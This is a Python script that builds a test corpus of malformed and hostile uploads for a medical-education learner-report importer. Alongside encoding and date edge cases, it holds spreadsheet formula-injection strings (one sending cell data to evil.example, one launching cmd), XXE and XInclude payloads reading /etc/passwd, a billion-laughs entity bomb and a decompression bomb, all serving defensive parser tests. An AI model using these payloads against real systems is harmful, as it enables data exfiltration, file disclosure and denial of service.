"""The bad-input corpus: how every file in `files/` was made, and the big files made at test time.

The files themselves are committed (so a reader sees the exact bytes under test); rebuild them
with `python -m tests.corpus.build`. Expectations live in `manifest.json`.

Every row that is meant to be valid uses the sandbox seeded for 2026-11-22
(`learners.sandbox.seed_sandbox`): activity 210015516 "Internal Medicine Update 2" (provider
0001234, ABIM 10 points, Medical Knowledge / Patient Safety, 2025-03-01..2025-11-30, claims until
2026-02-28, 10 AMA credits) and the synthetic physicians of `physician_specs()`.
"""

from __future__ import annotations

import codecs
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from datetime import date, timedelta
from pathlib import Path

CORPUS_DIR = Path(__file__).resolve().parent
FILES_DIR = CORPUS_DIR / "files"
MANIFEST = CORPUS_DIR / "manifest.json"
TODAY = date(2026, 11, 22)
ACTIVITY = "210015516"  # provider 0001234, ABIM
REMS_ACTIVITY = "210015525"
CME_ONLY_ACTIVITY = "210015527"
DRAFT_ACTIVITY = "210015528"
CLOSED_YEAR_ACTIVITY = "210015530"
OTHER_PROVIDERS_ACTIVITY = "210025501"

HEADER = [
    "Record Action", "ACCME Activity ID", "Completion Date", "First Name", "Last Name",
    "Date of Birth", "Licensing State", "Licensing ID or NPI", "Number of CME Credits",
    "Certifying Board", "Certifying Board ID", "Total Board Credits", "Credit Type ",
    "Credits Awarded for Credit Type", "Additional Credit Type",
    "Credits Awarded for Additional Credit Type",
]  # fmt: skip
REMS_HEADER = [
    "Record Action", "ACCME Activity ID", "Completion Date", "Learner Local ID", "Profession",
    "Practice Area", "DEA Registration", "State of Primary Practice", "Time in Practice",
    "Performs Surgical Procedures (Y/N)",
]  # fmt: skip

# Physicians of the sandbox directory (index into physician_specs()): name, DOB, licence.
JANE = ("Jane", "ACCME", "10/30", "IL", "036999902")
ZOE = ("Zoë", "Abara", "05/13", "CA", "CA100004")
PRIYA = ("Priya", "Ibáñez", "03/23", "IL", "IL100014")
SOREN = ("Søren", "O'Keeffe", "07/07", "KS", "KS100016")
OSCAR = ("Oscar", "O'Keeffe", "03/14", "AZ", "AZ100003")
FATIMA = ("Fatima", "Duarte", "04/21", "AL", "AL100001")


def day(n: int) -> str:
    """The n-th day (0-based) of activity 210015516's claim window, as MM/DD/YYYY."""
    return (date(2025, 3, 1) + timedelta(days=n)).strftime("%m/%d/%Y")


def moc_row(completion: str = "06/15/2025", **changes: str) -> list[str]:
    """Jane ACCME, CME and ABIM MOC on 210015516: a row the engine accepts."""
    first, last, dob, state, licence = JANE
    row = dict(
        zip(
            HEADER,
            ["Add", ACTIVITY, completion, first, last, dob, state, licence, "10", "ABIM",
             "999902", "10", "Medical Knowledge", "10", "", ""],
            strict=True,
        )
    )  # fmt: skip
    row.update({_header(key): value for key, value in changes.items()})
    return list(row.values())


def cme_row(physician: tuple[str, ...] = JANE, completion: str = "06/15/2025", **changes: str) -> list[str]:
    """A CME-only row (licence, no board) on 210015516: accepted."""
    first, last, dob, state, licence = physician
    row = dict(
        zip(HEADER, ["Add", ACTIVITY, completion, first, last, dob, state, licence, "2"], strict=False)
    )
    row.update({h: "" for h in HEADER[9:]})
    row.update({_header(key): value for key, value in changes.items()})
    return list(row.values())


_KEYS = {
    "action": "Record Action", "activity": "ACCME Activity ID", "date": "Completion Date",
    "first": "First Name", "last": "Last Name", "dob": "Date of Birth", "state": "Licensing State",
    "licence": "Licensing ID or NPI", "credits": "Number of CME Credits", "board": "Certifying Board",
    "board_id": "Certifying Board ID", "points": "Total Board Credits", "type": "Credit Type ",
    "type_points": "Credits Awarded for Credit Type",
}  # fmt: skip


def _header(key: str) -> str:
    return _KEYS[key]


def txt(
    rows: list[list[str]],
    *,
    header: list[str] | None = HEADER,
    encoding: str = "utf-8",
    newline: str = "\r\n",
    bom: bytes = b"",
    delimiter: str = "\t",
) -> bytes:
    lines = ([header] if header else []) + rows
    text = newline.join(delimiter.join(cells) for cells in lines) + newline
    return bom + text.encode(encoding)


def good_rows(n: int = 2) -> list[list[str]]:
    """n accepted rows: Jane's MOC row then CME rows of other physicians."""
    others = [OSCAR, FATIMA, ZOE, PRIYA, SOREN]
    return [moc_row(day(100))] + [cme_row(others[i % len(others)], day(101 + i)) for i in range(n - 1)]


# ---- XML ------------------------------------------------------------------------------------

XML_NAMESPACES = (
    'xmlns="http://docs.accme.org/schemas/ACCMELearnerReports/v3/" '
    'xmlns:accme="http://docs.accme.org/schemas/ACCMELearnerReports/v3/" '
    'xmlns:ex="http://docs.accme.org/schemas/ACCMELearnerReportExtension/v3/" '
    'xmlns:ar="http://ns.medbiq.org/activityreport/v2/" '
    'xmlns:m="http://ns.medbiq.org/member/v2/" xmlns:n="http://ns.medbiq.org/name/v2/" '
    'xmlns:hx="http://ns.medbiq.org/lom/extend/v1/"'
)


def xml_report(
    credit_id: str,
    *,
    given: str = "Jane",
    family: str = "ACCME",
    birth: str = "1904-10-30",
    ids: tuple[tuple[str, str], ...] = (("ABIM", "999902"),),
    activity: str = ACTIVITY,
    completed: str = "2025-06-15",
    credits: tuple[tuple[str, str], ...] = (
        ("AMA PRA Category 1", "2"),
        ("ABIM Medical Knowledge", "2"),
    ),
    action: str = "add",
) -> str:
    unique_ids = "".join(f'<m:UniqueID domain="{d}">{v}</m:UniqueID>' for d, v in ids)
    certificates = "".join(
        "<ar:CreditCertificate><ar:CreditReceived>"
        f"<hx:activityCertification>{cert}</hx:activityCertification>"
        f"<hx:creditUnit>Point</hx:creditUnit><hx:numberOfCredits>{points}</hx:numberOfCredits>"
        f"</ar:CreditReceived><ar:CreditID>{credit_id}-{i}</ar:CreditID></ar:CreditCertificate>"
        for i, (cert, points) in enumerate(credits)
    )
    return (
        "<ar:ActivityReport>"
        "<ar:ReportingOrganization>AAA Test Organization</ar:ReportingOrganization>"
        f"<ar:Member>{unique_ids}<m:Name><n:GivenName>{given}</n:GivenName>"
        f"<n:FamilyName>{family}</n:FamilyName></m:Name>"
        f"<m:PersonalInfo><m:BirthDate>{birth}</m:BirthDate></m:PersonalInfo></ar:Member>"
        "<ar:Activity><ar:ProviderOrganization>0001234</ar:ProviderOrganization>"
        f"<ar:ActivityName>{activity}</ar:ActivityName><ar:Module>"
        f'<ar:ModuleName moduleID="{activity}">Internal Medicine Update 2</ar:ModuleName>'
        f"<ar:Status>Completed</ar:Status><ar:CompletedDateTime>{completed}</ar:CompletedDateTime>"
        f"{certificates}</ar:Module></ar:Activity>"
        f"<ar:XtensibleInfo><ex:learnerRecordAction>{action}</ex:learnerRecordAction>"
        "</ar:XtensibleInfo></ar:ActivityReport>\n"
    )


def xml(
    reports: list[str],
    *,
    prolog: str = '<?xml version="1.0" encoding="UTF-8"?>\n',
    doctype: str = "",
    namespaces: str = XML_NAMESPACES,
    root: str = "accme:ACCMELearnerReports",
    encoding: str = "utf-8",
) -> bytes:
    body = (
        f"{prolog}{doctype}<{root} {namespaces}>\n<ar:ActivityReports>"
        "<ar:DateTimeCreated>2026-11-22</ar:DateTimeCreated>\n"
        + "".join(reports)
        + f"</ar:ActivityReports>\n</{root}>\n"
    )
    return body.encode(encoding)


def good_reports(n: int = 2, prefix: str = "ccid:corpus:") -> list[str]:
    dates = [(date(2025, 6, 1) + timedelta(days=i)).isoformat() for i in range(n)]
    return [xml_report(f"{prefix}{i}", completed=d) for i, d in enumerate(dates)]


# ---- XLSX -----------------------------------------------------------------------------------


def xlsx(rows: list[list[object]], *, header: list[str] | None = HEADER) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    if header:
        sheet.append(header)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return _fixed_zip_times(buffer.getvalue())


def _fixed_zip_times(data: bytes) -> bytes:
    """Rewrite a zip with a fixed timestamp, so rebuilding the corpus gives the same bytes."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "docProps/core.xml":
                content = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"/>'
            target.writestr(_zip_info(info.filename), content)
    return out.getvalue()


def _zip_info(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, (2026, 11, 22, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in members.items():
            target.writestr(_zip_info(name), content)
    return out.getvalue()


def png() -> bytes:
    """A real 1x1 PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


# ---- The committed files --------------------------------------------------------------------

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + "]>\n"
)


def _files() -> dict[str, Callable[[], bytes]]:
    rows = good_rows
    return {
        # Encodings and byte-order marks
        "valid_utf8.txt": lambda: txt(rows(3)),
        "utf8_bom.txt": lambda: txt(rows(3), bom=codecs.BOM_UTF8),
        "utf16le_bom_unicode_text.txt": lambda: txt(rows(3), encoding="utf-16-le", bom=codecs.BOM_UTF16_LE),
        "utf16be_bom.txt": lambda: txt(rows(2), encoding="utf-16-be", bom=codecs.BOM_UTF16_BE),
        "utf16le_no_bom.txt": lambda: txt(rows(2), encoding="utf-16-le"),
        "latin1_names_cp1252.txt": lambda: txt(
            [cme_row(ZOE, day(10)), cme_row(PRIYA, day(11)), cme_row(SOREN, day(12))], encoding="cp1252"
        ),
        "utf8_accented_names.txt": lambda: txt(
            [cme_row(ZOE, day(10)), cme_row(PRIYA, day(11)), cme_row(SOREN, day(12))]
        ),
        "shift_jis_names.txt": lambda: txt(
            rows(2) + [cme_row(("ジョー", "山田", "01/02", "IL", "IL999999"), day(20))], encoding="shift_jis"
        ),
        "utf8_bom_twice.txt": lambda: txt(rows(2), bom=codecs.BOM_UTF8 * 2),
        # Not text at all
        "binary_renamed.txt": lambda: bytes(range(256)) * 8,
        "png_renamed.txt": png,
        "pdf_renamed.txt": lambda: b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
        "zip_renamed.txt": lambda: zip_of({"learners.txt": txt(rows(2))}),
        "xlsx_renamed.txt": lambda: xlsx([moc_row(day(100))]),
        "nul_bytes.txt": lambda: txt(rows(2)).replace(b"Oscar", b"Os\x00car"),
        "png_renamed.xml": png,
        "png_renamed.xlsx": png,
        "zip_renamed.xlsx": lambda: zip_of({"learners.txt": txt(rows(2))}),
        "xls_ole_renamed.xlsx": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
        "text_renamed.xlsx": lambda: txt(rows(2)),
        "truncated.xlsx": lambda: xlsx([moc_row(day(100))])[:700],
        # Empty and nearly empty
        "empty.txt": lambda: b"",
        "empty.xml": lambda: b"",
        "empty.xlsx": lambda: b"",
        "header_only.txt": lambda: txt([]),
        "header_only.xlsx": lambda: xlsx([]),
        "blank_lines_only.txt": lambda: b"\r\n\r\n\t\t\t\r\n\r\n",
        "header_and_blank_lines.txt": lambda: txt([]) + b"\r\n\t\t\r\n   \r\n",
        # Line ends, columns, quoting
        "mixed_line_endings.txt": lambda: b"".join(
            ("\t".join(cells) + end).encode()
            for cells, end in zip([HEADER, *rows(4)], ["\r\n", "\n", "\r", "\r\n", "\n"], strict=True)
        ),
        "cr_only_old_mac.txt": lambda: txt(rows(3), newline="\r"),
        "trailing_blank_lines.txt": lambda: txt(rows(2)) + b"\r\n\r\n\r\n",
        "no_header.txt": lambda: txt(rows(3), header=None),
        "extra_columns.txt": lambda: txt([r + ["extra", "more"] for r in rows(2)], header=HEADER + ["Notes", "More"]),
        "missing_columns.txt": lambda: txt(
            [cme_row(OSCAR, day(30))[:9], moc_row(day(31))[:5]], header=HEADER[:9]
        ),
        "quoted_tabs.txt": lambda: txt(rows(2) + [cme_row(("\"Fatima\tX\"", "Duarte", "04/21", "AL", "AL100001"), day(40))]),
        "quoted_newline_in_cell.txt": lambda: txt(rows(2) + [cme_row(FATIMA, day(41), first='"Fat\r\nima"')]),
        "unclosed_quote.txt": lambda: txt(rows(2) + [cme_row(FATIMA, day(42), first='"Fatima')]),
        "csv_renamed.txt": lambda: txt(rows(3), delimiter=","),
        "semicolon_separated.txt": lambda: txt(rows(2), delimiter=";"),
        "html_renamed.txt": lambda: b"<!doctype html><html><body><table><tr><td>Add</td></tr></table></body></html>\n",
        "rems_header_as_board.txt": lambda: txt(
            [["Add", REMS_ACTIVITY, "10/01/2026", "L-1", "Physician", "Pain", "Individual", "IL", "0-5 years post training", "N"]],
            header=REMS_HEADER,
        ),
        "excel_guidance_row.txt": lambda: txt(
            [["Required: Add or Delete", "9 digits", "MM/DD/YYYY", "", "", "MM/DD", "", "", "", "", "", "", "", "", "", ""], *rows(2)],
        ),
        "report_reupload_with_error_columns.txt": lambda: txt(
            [r + ["718", "No learner matches."] for r in rows(2)], header=HEADER + ["Error Codes", "Error Messages"]
        ),
        "very_many_columns.txt": lambda: txt(rows(2) + [cme_row(OSCAR, day(50)) + ["x"] * 5000]),
        # Row-level problems: good rows kept, bad rows reported
        "formula_injection_names.txt": lambda: txt(
            rows(2)
            + [
                cme_row(OSCAR, day(60), first='=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
                cme_row(OSCAR, day(61), last="+1+1"),
                cme_row(OSCAR, day(62), first="@SUM(1+1)*cmd|' /C calc'!A0"),
                cme_row(OSCAR, day(63), last="-2+3"),
            ]
        ),
        "control_and_bidi_characters.txt": lambda: txt(
            rows(2) + [cme_row(OSCAR, day(70), first="Os\u202ecar"), cme_row(OSCAR, day(71), last="O\x07Keeffe")]
        ),
        "date_year_month_swapped_2026_13_01.txt": lambda: txt(rows(1) + [moc_row("2026/13/01")]),
        "date_day_first_31_12_2026.txt": lambda: txt(rows(1) + [moc_row("31/12/2026")]),
        "date_two_digit_year_12-31-26.txt": lambda: txt(rows(1) + [moc_row("12-31-26")]),
        "date_word_yesterday.txt": lambda: txt(rows(1) + [moc_row("yesterday")]),
        "date_excel_serial_in_txt.txt": lambda: txt(rows(1) + [moc_row("45823")]),
        "date_february_30.txt": lambda: txt(rows(1) + [moc_row("02/30/2026")]),
        "date_iso_accepted.txt": lambda: txt(rows(1) + [moc_row("2025-07-04")]),
        "date_with_time_part.txt": lambda: txt(rows(1) + [moc_row("07/05/2025 10:30:00")]),
        "date_future.txt": lambda: txt(rows(1) + [cme_row(OSCAR, "12/25/2026", activity=CME_ONLY_ACTIVITY)]),
        "date_before_activity_start.txt": lambda: txt(rows(1) + [moc_row("01/15/2025")]),
        "date_after_claim_date.txt": lambda: txt(rows(1) + [moc_row("05/01/2026")]),
        "date_reporting_window_closed.txt": lambda: txt(
            rows(1) + [moc_row("03/15/2024", activity=CLOSED_YEAR_ACTIVITY, credits="6", points="6", type_points="6")]
        ),
        "birth_date_invalid.txt": lambda: txt(rows(1) + [moc_row(day(80), dob="13/45"), moc_row(day(81), dob="")]),
        "record_action_invalid.txt": lambda: txt(rows(1) + [moc_row(day(82), action="Update"), moc_row(day(83), action="")]),
        "activity_unknown_and_other_providers.txt": lambda: txt(
            rows(1) + [moc_row(day(84), activity="999999999"), moc_row(day(85), activity=OTHER_PROVIDERS_ACTIVITY), moc_row(day(86), activity="12AB")]
        ),
        "activity_draft.txt": lambda: txt(rows(1) + [cme_row(OSCAR, "10/01/2026", activity=DRAFT_ACTIVITY)]),
        "credits_invalid.txt": lambda: txt(
            rows(1) + [cme_row(OSCAR, day(87), credits="0.3"), cme_row(OSCAR, day(88), credits="11"), cme_row(OSCAR, day(89), credits="-1")]
        ),
        "board_unknown.txt": lambda: txt(rows(1) + [moc_row(day(90), board="ABXYZ")]),
        "learner_unknown.txt": lambda: txt(rows(1) + [cme_row(("Nobody", "Known", "01/01", "IL", "000000000"), day(91))]),
        "duplicate_moc_rows_in_file.txt": lambda: txt([moc_row(day(92)), moc_row(day(92))]),
        "delete_unknown_record.txt": lambda: txt(rows(1) + [moc_row(day(93), action="Delete")]),
        "rems_valid.txt": lambda: txt(
            [
                ["Add", REMS_ACTIVITY, "10/01/2026", "L-1", "Physician", "Pain", "Individual", "IL", "0-5 years post training", "N"],
                ["Add", REMS_ACTIVITY, "10/02/2026", "L-2", "Dentist", "Dentistry", "None", "WI", "21+ years", "Y"],
            ],
            header=REMS_HEADER,
        ),
        "rems_bad_values.txt": lambda: txt(
            [
                ["Add", REMS_ACTIVITY, "10/01/2026", "L-1", "Physician", "Pain", "Individual", "IL", "0-5 years post training", "N"],
                ["Add", REMS_ACTIVITY, "10/02/2026", "L-2", "Astronaut", "Pain", "Individual", "IL", "0-5 years post training", "N"],
                ["Add", REMS_ACTIVITY, "10/03/2026", "L-3", "", "Pain", "Individual", "IL", "0-5 years post training", "N"],
            ],
            header=REMS_HEADER,
        ),
        # XML
        "valid.xml": lambda: xml(good_reports(2)),
        "xml_bad_rows.xml": lambda: xml(
            good_reports(1)
            + [xml_report("ccid:corpus:bad-activity", activity="999999999"),
               xml_report("ccid:corpus:bad-date", completed="2025-02-30"),
               xml_report("ccid:corpus:formula", given='=HYPERLINK("http://evil.example","x")')]
        ),  # fmt: skip
        "xml_utf16_bom.xml": lambda: xml(
            good_reports(1), prolog='<?xml version="1.0" encoding="UTF-16"?>\n', encoding="utf-16"
        ),
        "xml_latin1_declared.xml": lambda: xml(
            [xml_report("ccid:corpus:zoe", given="Zoë", family="Abara", birth="1950-05-13", ids=(("CA", "CA100004"),), credits=(("AMA PRA Category 1", "2"),))],
            prolog='<?xml version="1.0" encoding="ISO-8859-1"?>\n',
            encoding="latin-1",
        ),
        "xxe_local_file.xml": lambda: xml(
            [xml_report("ccid:corpus:xxe", given="&xxe;")],
            doctype='<!DOCTYPE accme:ACCMELearnerReports [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
        ),
        "xxe_network.xml": lambda: xml(
            [xml_report("ccid:corpus:xxe", given="&xxe;")],
            doctype='<!DOCTYPE accme:ACCMELearnerReports [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/secret">]>\n',
        ),
        "xxe_parameter_entity.xml": lambda: xml(
            good_reports(1),
            doctype='<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>\n',
        ),
        "external_dtd.xml": lambda: xml(
            good_reports(1), doctype='<!DOCTYPE accme:ACCMELearnerReports SYSTEM "http://127.0.0.1:9/learners.dtd">\n'
        ),
        "billion_laughs.xml": lambda: xml(
            [xml_report("ccid:corpus:lol", given="&lol9;")], prolog=BILLION_LAUGHS
        ),
        "doctype_internal_only.xml": lambda: xml(
            good_reports(1), doctype="<!DOCTYPE accme:ACCMELearnerReports []>\n"
        ),
        "wrong_namespace_v2.xml": lambda: xml(
            good_reports(1), namespaces=XML_NAMESPACES.replace("ACCMELearnerReports/v3/", "ACCMELearnerReports/v2/")
        ),
        "no_namespaces.xml": lambda: (
            b'<?xml version="1.0"?>\n<ACCMELearnerReports><ActivityReports><ActivityReport>'
            b"</ActivityReport></ActivityReports></ACCMELearnerReports>\n"
        ),
        "wrong_root_element.xml": lambda: xml(good_reports(1), root="accme:LearnerReports"),
        "no_activity_reports.xml": lambda: xml([]),
        "malformed_truncated.xml": lambda: xml(good_reports(2))[:-60],
        "plain_text_renamed.xml": lambda: txt(rows(2)),
        "xinclude.xml": lambda: xml(
            [xml_report("ccid:corpus:xi").replace(
                "<n:GivenName>Jane</n:GivenName>",
                '<n:GivenName><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></n:GivenName>',
            )]
        ),  # fmt: skip
        # Excel
        "valid.xlsx": lambda: xlsx(rows(3)),
        "xlsx_date_cells.xlsx": lambda: xlsx(
            [[*moc_row()[:2], date(2025, 6, 20), *moc_row()[3:]], [*cme_row(OSCAR)[:2], date(2025, 6, 21), *cme_row(OSCAR)[3:]]]
        ),
        "xlsx_bad_rows.xlsx": lambda: xlsx(
            rows(2) + [moc_row("02/30/2026"), cme_row(OSCAR, day(95), first='=HYPERLINK("http://evil.example","x")')]
        ),
        "xlsx_numbers_as_numbers.xlsx": lambda: xlsx(
            [[c if i not in (1, 8, 10, 11, 13) else (int(c) if c.isdigit() else c) for i, c in enumerate(moc_row(day(96)))]]
        ),
    }  # fmt: skip


FILES = _files()


# ---- Made at test time (too big, or too repetitive, to commit) -----------------------------


def records(n: int) -> bytes:
    """n accepted CME rows: directory physicians x distinct dates of 210015516's window."""
    from learners.sandbox import physician_specs

    specs = [s for i, s in enumerate(physician_specs()) if i % 20 not in (0, 13) and len(s.licenses) == 1][:20]
    out = []
    for i in range(n):
        s = specs[i % len(specs)]
        state, licence = s.licenses[0]
        who = (s.first_name, s.last_name, f"{s.birth_month:02d}/{s.birth_day:02d}", state, licence)
        out.append(cme_row(who, day(i // len(specs)), credits="1"))
    return txt(out)


def records_xml(n: int) -> bytes:
    dates = [date(2025, 3, 1) + timedelta(days=i) for i in range(n)]
    return xml([xml_report(f"ccid:corpus:{i}", completed=d.isoformat()) for i, d in enumerate(dates)])


def nested_xml(depth: int) -> bytes:
    return (
        b'<?xml version="1.0"?>\n'
        + b'<accme:ACCMELearnerReports xmlns:accme="http://docs.accme.org/schemas/ACCMELearnerReports/v3/">'
        + b"<a>" * depth
        + b"</a>" * depth
        + b"</accme:ACCMELearnerReports>\n"
    )


GENERATED: dict[str, Callable[[], bytes]] = {
    "records_2500.txt": lambda: records(2500),
    "records_2501.txt": lambda: records(2501),
    "records_2501.xml": lambda: records_xml(2501),
    "field_100kb.txt": lambda: txt(good_rows(2) + [cme_row(OSCAR, day(97), first="A" * 100_000)]),
    "field_2mb.txt": lambda: txt(good_rows(2) + [cme_row(OSCAR, day(98), last="B" * 2_000_000)]),
    "line_of_5mb_without_tabs.txt": lambda: b"x" * 5_000_000 + b"\r\n",
    "larger_than_10mb.txt": lambda: txt(good_rows(2)) + b"\r\n" * 5_300_000,
    "nested_10000_levels.xml": lambda: nested_xml(10_000),
    "decompression_bomb.xlsx": lambda: padded_xlsx(400_000_000),
    "inflates_to_100mb.xlsx": lambda: padded_xlsx(100_000_000),
}


def padded_xlsx(padding: int) -> bytes:
    """A valid workbook whose sheet inflates by `padding` bytes (a few hundred KB compressed)."""
    source = zipfile.ZipFile(io.BytesIO(xlsx(good_rows(2))))
    members = {name: source.read(name) for name in source.namelist()}
    members["xl/worksheets/sheet1.xml"] += b" " * padding
    return zip_of(members)


def corpus_bytes(name: str) -> bytes:
    """The bytes of a corpus entry: from `files/`, or made now for the generated ones."""
    if name in GENERATED:
        return GENERATED[name]()
    return (FILES_DIR / name).read_bytes()


def manifest() -> list[dict[str, object]]:
    return json.loads(MANIFEST.read_text(encoding="utf-8"))["uploads"]


def main() -> None:
    import django

    django.setup()
    FILES_DIR.mkdir(exist_ok=True)
    for name, make in FILES.items():
        (FILES_DIR / name).write_bytes(make())
    print(f"wrote {len(FILES)} files to {FILES_DIR}")


if __name__ == "__main__":
    main()
